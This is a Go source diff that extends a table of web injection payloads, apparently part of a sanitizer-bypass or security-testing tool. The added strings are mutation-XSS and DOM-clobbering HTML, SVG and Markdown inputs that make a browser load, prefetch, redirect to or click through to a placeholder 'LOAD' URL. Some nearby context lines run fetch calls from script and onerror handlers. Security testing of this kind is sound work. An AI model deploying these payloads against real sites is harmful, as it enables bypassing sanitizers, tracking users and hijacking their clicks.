@@ -92,6 +92,19 @@ var payloads = map[string][]string{
 		`<img name="querySelectorAll"><img name="innerHTML"><img src="LOAD">`,
 		`<form id="content"><input name="innerHTML"><input name="remove"><img src="LOAD"></form>`,
 		`<frameset><frame src="LOAD"></frameset>`,
+		// What a browser makes of these depends on how often they are parsed.
+		`<math><mtext><table><mglyph><style><div><link rel="preconnect" href="LOAD">`,
+		`<math><mtext><table><mglyph><style><div><link rel="dns-prefetch" href="LOAD">`,
+		`<math><mtext><table><mglyph><style><div><meta http-equiv="refresh" content="0; url=LOAD">`,
+		`<math><mtext><table><mglyph><style><div><a href="LOAD" style="position: fixed; inset: 0; display: block" id="click">click</a>`,
+		`<math><mtext><table><mglyph><style><div><form action="LOAD"><button style="position: fixed; inset: 0" id="click">click</button></form>`,
+		`<form><math><mtext></form><form><mglyph><style></math><link rel="preconnect" href="LOAD">`,
+		`<svg></p><style><a id="</style><link rel='preconnect' href='LOAD'>">`,
+		`<svg><desc><![CDATA[</desc><link rel="preconnect" href="LOAD">]]>`,
+		`<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp><link rel="preconnect" href="LOAD">`,
+		`<noscript><p title="</noscript><link rel='preconnect' href='LOAD'>">`,
+		`<img name="body"><img name="querySelector"><link rel="preconnect" href="LOAD">`,
+		`<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3CforeignObject%3E%3Clink xmlns='http://www.w3.org/1999/xhtml' rel='preconnect' href='LOAD'/%3E%3C/foreignObject%3E%3C/svg%3E">`,
 	},
 	"image/svg+xml": {
 		`<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("LOAD")</script></svg>`,
@@ -126,6 +139,7 @@ var payloads = map[string][]string{
 		`![x" onerror="fetch('LOAD')](data:,)`,
 		`[x]: LOAD` + "\n\n![x][x] <img src=x onerror='fetch(\"LOAD\")'>",
 		`| a |` + "\n|---|\n" + `| <img src="LOAD"> |`,
+		"# a\n\n" + `<math><mtext><table><mglyph><style><div><link rel="preconnect" href="LOAD">`,
 	},
 }
 
